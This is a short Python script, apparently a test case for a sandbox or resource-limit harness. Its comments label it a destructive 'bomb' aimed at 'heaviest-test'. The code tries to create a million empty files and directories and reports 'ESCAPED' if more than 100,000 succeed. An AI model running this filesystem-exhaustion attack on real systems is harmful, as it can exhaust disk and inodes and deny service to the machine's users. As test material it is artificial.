# attack: a million empty files and deep folders.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os

heaviest = "tree-000"
made = 0
try:
    for number in range(1_000_000):
        os.mknod(f"n{number}") if number % 2 else os.mkdir(f"d{number}")
        made += 1
except OSError as error:
    print("stopped:", error)
if made > 100_000:
    print("ESCAPED:", made, "files")
